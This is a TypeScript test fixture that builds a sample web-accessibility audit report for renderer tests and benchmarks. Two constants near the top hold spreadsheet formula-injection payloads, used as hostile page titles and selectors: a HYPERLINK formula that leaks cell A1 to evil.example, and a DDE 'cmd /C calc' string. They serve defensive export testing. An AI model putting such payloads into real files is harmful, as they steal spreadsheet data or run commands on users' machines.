/**
 * A report object built in memory, for renderer tests and the rendering bench: no database.
 * Page texts include formula-injection attempts, as hostile pages would.
 */
import { conformance, documentConformance } from '../../src/reports/conformance.ts';
import type {
  CriterionResult,
  DiffRow,
  IssueGroup,
  Report,
  ReportIssueRow,
  ReportKind,
  ReportPage,
  SeverityCounts,
  TrendPoint,
} from '../../src/reports/report-model.ts';
import { SEVERITIES, type Severity } from '../../src/shared/contracts.ts';
import { summaryCounts } from '../../src/reports/report-data.ts';
import { WCAG22_A_AA } from '../../src/shared/wcag.ts';
import { encodePng } from './png.ts';

/** A 240x120 picture: a grey page with a magenta frame, as the service's screenshots look. */
export function samplePicture(seed = 0): Buffer {
  const w = 240;
  const h = 120;
  const px = new Uint8Array(w * h * 3);
  for (let y = 0; y < h; y++)
    for (let x = 0; x < w; x++) {
      const frame = (x >= 60 && x < 180 && (y === 40 || y === 41 || y === 80 || y === 81)) || (y >= 40 && y < 82 && (x === 60 || x === 61 || x === 178 || x === 179));
      const o = (y * w + x) * 3;
      px.set(frame ? [0xe6, 0, 0x7e] : [235 - ((x + seed) % 7), 235, 238], o);
    }
  return encodePng(w, h, 3, px);
}

export const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
export const HOSTILE_LINK_TEXT = '@SUM(1+1)*cmd|\' /C calc\'!A0';

const RULES: Array<{ ruleId: string; title: string; sc: string; severity: Severity; type: 'confirmed' | 'needs_review' }> = [
  { ruleId: 'image-alt', title: 'Images must have alternative text', sc: '1.1.1', severity: 'critical', type: 'confirmed' },
  { ruleId: 'color-contrast', title: 'Elements must meet minimum color contrast ratio thresholds', sc: '1.4.3', severity: 'serious', type: 'confirmed' },
  { ruleId: 'link-name', title: 'Links must have discernible text', sc: '2.4.4', severity: 'serious', type: 'confirmed' },
  { ruleId: 'label', title: 'Form elements must have labels', sc: '4.1.2', severity: 'critical', type: 'confirmed' },
  { ruleId: 'target-size', title: 'All touch targets must be 24px large, or leave sufficient space', sc: '2.5.8', severity: 'serious', type: 'confirmed' },
  { ruleId: 'link-text-generic', title: 'Link text must describe the destination', sc: '2.4.4', severity: 'moderate', type: 'needs_review' },
  { ruleId: 'region', title: 'All page content should be contained by landmarks', sc: '1.3.1', severity: 'moderate', type: 'confirmed' },
  { ruleId: 'html-has-lang', title: '<html> element must have a lang attribute', sc: '3.1.1', severity: 'serious', type: 'confirmed' },
];

function counts(parts: Partial<Record<Severity, number>>): SeverityCounts {
  const c = { critical: parts.critical ?? 0, serious: parts.serious ?? 0, moderate: parts.moderate ?? 0, minor: parts.minor ?? 0 };
  return { ...c, total: c.critical + c.serious + c.moderate + c.minor };
}

const principleOf = (sc: string) => (['Perceivable', 'Operable', 'Understandable', 'Robust'] as const)[Number(sc[0]) - 1]!;

export interface SampleReportOptions {
  kind?: ReportKind;
  pages?: number;
  issuesPerPage?: number;
  crawls?: number;
  /** Give the first groups a picture (PNG) and some issues a picture link, a state and a viewport. */
  pictures?: boolean;
  /** Make this many of the scanned pages documents (PDFs the site links to), with their own conformance. */
  documents?: number;
}

/** A deterministic report: `pages` pages, `issuesPerPage` issues each, cycling through the rules above. */
export function sampleReport(opts: SampleReportOptions = {}): Report {
  const kind = opts.kind ?? 'crawl';
  const nPages = kind === 'scan' ? 1 : (opts.pages ?? 12);
  const perPage = opts.issuesPerPage ?? 9;
  const origin = 'https://www.example.org';
  const pageUrl = (i: number) => (i === 0 ? `${origin}/` : `${origin}/docs/page-${i}.html`);
  const pageTitle = (i: number) => (i === 1 ? HOSTILE_TITLE : i === 0 ? 'Example home' : `Documentation page ${i}`);

  const pictures = opts.pictures ?? false;
  const rowFor = (p: number, k: number): ReportIssueRow => {
    const rule = RULES[(p + k) % RULES.length]!;
    const linkText = p === 1 && k === 0 ? HOSTILE_LINK_TEXT : `Read more ${k}`;
    return {
      id: `00000000-0000-4000-8000-${String(p * 1000 + k).padStart(12, '0')}`,
      pageUrl: pageUrl(p),
      pageTitle: pageTitle(p),
      ruleId: rule.ruleId,
      wcagCriterion: rule.sc,
      wcagLevel: WCAG22_A_AA.find((s) => s.id === rule.sc)!.level,
      wcagCriteria: [rule.sc],
      severity: rule.severity,
      type: rule.type,
      status: k === 3 ? 'dismissed' : 'open',
      selector: p === 1 && k === 0 ? HOSTILE_LINK_TEXT : `main > section:nth-child(${k + 1}) > a`,
      html: `<a href="/x/${k}" class="more">${linkText}</a>`,
      description: `${rule.title}. Screen-reader users cannot tell where this link goes.`,
      fixSuggestion: `Give the element a text that names its purpose, e.g. <a href="/x/${k}">Read the installation guide</a>.`,
      helpUrl: `https://dequeuniversity.com/rules/axe/4.14/${rule.ruleId}`,
      alsoFlaggedBy: k === 2 ? ['target-size-mobile'] : [],
      firstSeenAt: new Date('2026-11-01T10:00:00Z'),
      lastSeenAt: new Date('2026-11-20T10:00:00Z'),
      state: pictures && k === 4 ? { action: 'click', target: '#menu-button', label: 'Menu' } : null,
      viewport: pictures && k === 5 ? 'mobile' : null,
      hasScreenshot: pictures && k === 0,
      screenshotUrl: pictures && k === 0 ? `https://audit.example/api/sites/40000000-0000-4000-8000-000000000001/issues/${String(p * 1000 + k).padStart(12, '0')}/screenshot` : null,
    };
  };

  const pages: ReportPage[] = [];
  for (let p = 0; p < nPages; p++) {
    const failed = kind === 'crawl' && p === nPages - 1 && nPages > 3;
    const bySev: Partial<Record<Severity, number>> = {};
    if (!failed) for (let k = 0; k < perPage; k++) bySev[RULES[(p + k) % RULES.length]!.severity] = (bySev[RULES[(p + k) % RULES.length]!.severity] ?? 0) + 1;
    const document = !failed && p > 0 && p <= (opts.documents ?? 0);
    pages.push({
      url: document ? `${origin}/files/report-${p}.pdf` : pageUrl(p),
      title: failed ? null : pageTitle(p),
      kind: document ? 'document' : 'page',
      score: failed ? null : Math.max(5, 92 - ((p * 7) % 60)),
      state: failed ? 'failed' : 'scanned',
      error: failed ? { code: 'timeout', message: 'the page did not finish loading within 30 s' } : null,
      counts: counts(bySev),
    });
  }
  pages.sort((a, b) => (a.score ?? 101) - (b.score ?? 101) || a.url.localeCompare(b.url));
  const scanned = pages.filter((p) => p.state === 'scanned');

  // Every count of the report comes from the issue rows `issueRows()` yields (what the Issues sheet
  // and the API's issue list hold), aggregated as report-data.ts aggregates the findings: per rule
  // its elements and pages, and the summary's counts through `summaryCounts` itself. (They once
  // came from formulas of their own: 99 issues over a severity table of 104.)
  const scannedUrls = new Set(scanned.map((p) => p.url));
  const perRule = RULES.map(() => ({ elements: 0, pages: new Set<string>() }));
  for (let p = 0; p < nPages; p++) {
    if (!scannedUrls.has(pageUrl(p))) continue;
    for (let k = 0; k < perPage; k++) {
      const found = perRule[(p + k) % RULES.length]!;
      found.elements++;
      found.pages.add(pageUrl(p));
    }
  }
  const totalIssues = perRule.reduce((n, r) => n + r.elements, 0);
  const { bySeverity, byType, byPrinciple } = summaryCounts(
    RULES.map((r, i) => ({ severity: r.severity, type: r.type, principle: Number(r.sc.split('.')[0]), n: perRule[i]!.elements })),
  );
  const score = Math.round(scanned.reduce((n, p) => n + (p.score ?? 0), 0) / Math.max(1, scanned.length));

  const groups: IssueGroup[] = RULES.flatMap((r, i) => (perRule[i]!.elements ? [{ r, i }] : [])).map(({ r, i }) => ({
    ruleId: r.ruleId,
    title: r.title,
    wcagCriterion: r.sc,
    criterionTitle: WCAG22_A_AA.find((s) => s.id === r.sc)!.title,
    wcagLevel: WCAG22_A_AA.find((s) => s.id === r.sc)!.level,
    wcagCriteria: [r.sc],
    principle: principleOf(r.sc),
    severity: r.severity,
    type: r.type,
    elements: perRule[i]!.elements,
    pages: perRule[i]!.pages.size,
    description: `${r.title}. People using screen readers or keyboards are affected.`,
    fixSuggestion: `Fix the ${r.ruleId} problem at its source: the page template. For example <img src="logo.png" alt="Example Org home">.`,
    enrichedBy: i % 2 === 0 ? 'offline' : null,
    helpUrl: `https://dequeuniversity.com/rules/axe/4.14/${r.ruleId}`,
    examples: [0, 1, 2].slice(0, Math.min(3, scanned.length)).map((k) => ({
      pageUrl: pageUrl(k),
      selector: k === 1 ? HOSTILE_LINK_TEXT : `#main > p:nth-child(${k + 2}) > img`,
      html: `<img src="/img/${k}.png" class="hero">`,
      state: pictures && k === 1 ? { action: 'click' as const, target: '#menu-button', label: 'Menu' } : null,
      viewport: pictures && k === 2 ? ('mobile' as const) : null,
      screenshotUrl: pictures && k === 0 ? `https://audit.example/api/sites/40000000-0000-4000-8000-000000000001/issues/5000000${i}-0000-4000-8000-000000000000/screenshot` : null,
    })),
    examplePages: [...perRule[i]!.pages].sort().slice(0, 5),
    picture: pictures ? { image: samplePicture(i), width: 240, height: 120, alt: `Screenshot of example element 1 of \u201c${r.title}\u201d, outlined in magenta` } : null,
  }));
  const sevRank = (s: Severity) => SEVERITIES.indexOf(s);
  groups.sort((a, b) => sevRank(a.severity) - sevRank(b.severity) || b.pages - a.pages || b.elements - a.elements);

  const failingSc = new Map<string, { confirmed: boolean; rules: string[] }>();
  for (const g of groups) {
    const e = failingSc.get(g.wcagCriterion) ?? { confirmed: false, rules: [] };
    e.confirmed ||= g.type === 'confirmed';
    e.rules.push(g.ruleId);
    failingSc.set(g.wcagCriterion, e);
  }
  const criteria: CriterionResult[] = WCAG22_A_AA.map((sc, i) => {
    const f = failingSc.get(sc.id);
    return {
      id: sc.id,
      title: sc.title,
      level: sc.level,
      principle: principleOf(sc.id),
      result: f ? (f.confirmed ? 'fails' : 'needs_review') : i % 3 === 0 ? 'passed' : 'not_checked',
      rules: f?.rules ?? [],
      // As criteriaResults: the criterion's groups' elements, and the most pages one of them reaches.
      issues: groups.filter((g) => g.wcagCriterion === sc.id).reduce((n, g) => n + g.elements, 0),
      pages: groups.filter((g) => g.wcagCriterion === sc.id).reduce((n, g) => Math.max(n, g.pages), 0),
    };
  });

  const diffRows = (change: 'new' | 'fixed', n: number): DiffRow[] =>
    Array.from({ length: n }, (_, i) => {
      const r = RULES[i % RULES.length]!;
      return {
        id: `20000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
        pageUrl: pageUrl(i % nPages),
        ruleId: r.ruleId,
        wcagCriterion: r.sc,
        wcagLevel: WCAG22_A_AA.find((s) => s.id === r.sc)!.level,
        wcagCriteria: [r.sc],
        severity: r.severity,
        type: r.type,
        selector: i === 0 ? HOSTILE_LINK_TEXT : `#item-${i}`,
        at: new Date('2026-11-20T10:00:00Z'),
        change,
      };
    });
  const byRule = (rows: DiffRow[]) =>
    RULES.map((r) => ({ ruleId: r.ruleId, title: r.title, wcagCriterion: r.sc, severity: r.severity, count: rows.filter((x) => x.ruleId === r.ruleId).length })).filter(
      (x) => x.count > 0,
    );
  // New issues are issues this crawl found: never more than it found.
  const newList = diffRows('new', Math.min(14, totalIssues));
  const fixedList = diffRows('fixed', 23);

  // The site's crawls a week apart, this crawl last with its own score and counts.
  const completedAt = new Date('2026-11-23T09:12:34Z');
  const nCrawls = opts.crawls ?? 5;
  const trend: TrendPoint[] =
    kind === 'crawl'
      ? Array.from({ length: nCrawls }, (_, i) =>
          i === nCrawls - 1
            ? { crawlId: '30000000-0000-4000-8000-000000000001', completedAt, overallScore: score, counts: bySeverity, newIssues: newList.length, fixedIssues: fixedList.length }
            : {
                crawlId: `10000000-0000-4000-8000-00000000000${i}`,
                completedAt: new Date(completedAt.getTime() - (nCrawls - 1 - i) * 7 * 86_400_000),
                overallScore: 48 + i * 6,
                counts: counts({ critical: 40 - i * 5, serious: 80 - i * 7, moderate: 30, minor: 4 }),
                newIssues: i === 0 ? 154 : 10 + i,
                fixedIssues: i === 0 ? 0 : 20 + i,
              },
        )
      : [];
  const before = trend.at(-2);
  const previous = before
    ? { id: before.crawlId, completedAt: before.completedAt, overallScore: before.overallScore }
    : { id: '10000000-0000-4000-8000-000000000003', completedAt: new Date('2026-11-16T10:00:00Z'), overallScore: 66 };

  return {
    kind,
    title: `Accessibility report: ${kind === 'scan' ? pageUrl(0) : 'www.example.org'}`,
    lang: 'en',
    generatedAt: new Date('2026-11-23T09:30:00Z'),
    target: {
      kind,
      id: '30000000-0000-4000-8000-000000000001',
      hostname: 'www.example.org',
      url: kind === 'scan' ? pageUrl(0) : `${origin}/`,
      name: kind === 'scan' ? pageTitle(0) : 'www.example.org',
      status: kind === 'crawl' && nPages > 3 ? 'completed_partial' : 'completed',
      startedAt: new Date('2026-11-23T09:00:00Z'),
      completedAt,
      durationMs: 754_000,
      standard: 'WCAG 2.2 Level A and AA',
      engine: 'axe-core 4.14.1 with the service\u2019s own checks',
      engines: [
        { name: 'axe-core', version: '4.14.1' },
        { name: 'a11y-audit checks: keyboard operation, focus and content on hover; reflow', version: '0.1.0' },
      ],
      browser: 'Chromium (headless), 1280\u00d7800, with a 390 px mobile pass',
      crawl:
        kind === 'crawl'
          ? { maxPages: 1000, totalPages: nPages, scannedPages: scanned.length, failedPages: nPages - scanned.length, enrichedPages: scanned.length, brokenLinks: 2 }
          : null,
    },
    summary: {
      score,
      scoreFormula:
        'Each page scores round(100 \u00d7 \u220f(1 \u2212 w)) over its failing rules, w = 0.20 critical, 0.12 serious, 0.06 moderate, 0.02 minor (a quarter of that when the rule only needs review); the site scores the mean of its pages.',
      text: `The ${kind === 'scan' ? 'page' : 'site'} has ${totalIssues} automated findings across ${groups.length} rules. Start with images without alternative text and form fields without labels.`,
      issues: totalIssues,
      pagesAffected: perRule.reduce((all, r) => new Set([...all, ...r.pages]), new Set<string>()).size,
      pagesScanned: scanned.length,
      bySeverity,
      byType,
      byPrinciple,
      change: kind === 'crawl' ? { newIssues: newList.length, fixedIssues: fixedList.length, persisting: totalIssues - newList.length, previousScore: previous.overallScore } : null,
    },
    topPriorities: groups.slice(0, 5).map((g) => ({
      title: g.title,
      ruleId: g.ruleId,
      severity: g.severity,
      wcagCriterion: g.wcagCriterion,
      elements: g.elements,
      pages: g.pages,
      reason: `${g.severity} and on ${g.pages} pages`,
    })),
    positiveFindings: [
      { title: 'Buttons have discernible text', detail: '41 elements checked and passing.', wcagCriterion: '4.1.2' },
      { title: 'Document has a title', detail: 'Every scanned page has a title.', wcagCriterion: '2.4.2' },
    ],
    criteria,
    // The criterion's confirmed groups: their elements, and the most pages one of them reaches.
    conformance: conformance(
      criteria,
      groups,
      criteria.map((c) => {
        const confirmed = groups.filter((g) => g.type === 'confirmed' && g.wcagCriterion === c.id);
        return { criterion: c.id, issues: confirmed.reduce((n, g) => n + g.elements, 0), pages: confirmed.reduce((n, g) => Math.max(n, g.pages), 0) };
      }),
      scanned.length,
    ),
    documentConformance: opts.documents ? documentConformance(criteria, groups, [], scanned.filter((p) => p.kind === 'document').length) : null,
    groups,
    pages,
    pagesTotal: pages.length,
    failedPages: pages.filter((p) => p.state === 'failed').map((p) => ({ url: p.url, code: p.error!.code, message: p.error!.message })),
    diff:
      kind === 'crawl'
        ? {
            previous,
            newIssues: newList.length,
            fixedIssues: fixedList.length,
            newByRule: byRule(newList),
            fixedByRule: byRule(fixedList),
            async *newRows() {
              yield newList;
            },
            async *fixedRows() {
              yield fixedList;
            },
          }
        : null,
    trend,
    async *issueRows() {
      const batch: ReportIssueRow[] = [];
      for (let p = 0; p < nPages; p++) {
        if (pages.find((x) => x.url === pageUrl(p))?.state === 'failed') continue;
        for (let k = 0; k < perPage; k++) {
          batch.push(rowFor(p, k));
          if (batch.length >= 1000) yield batch.splice(0);
        }
      }
      if (batch.length) yield batch;
    },
  };
}
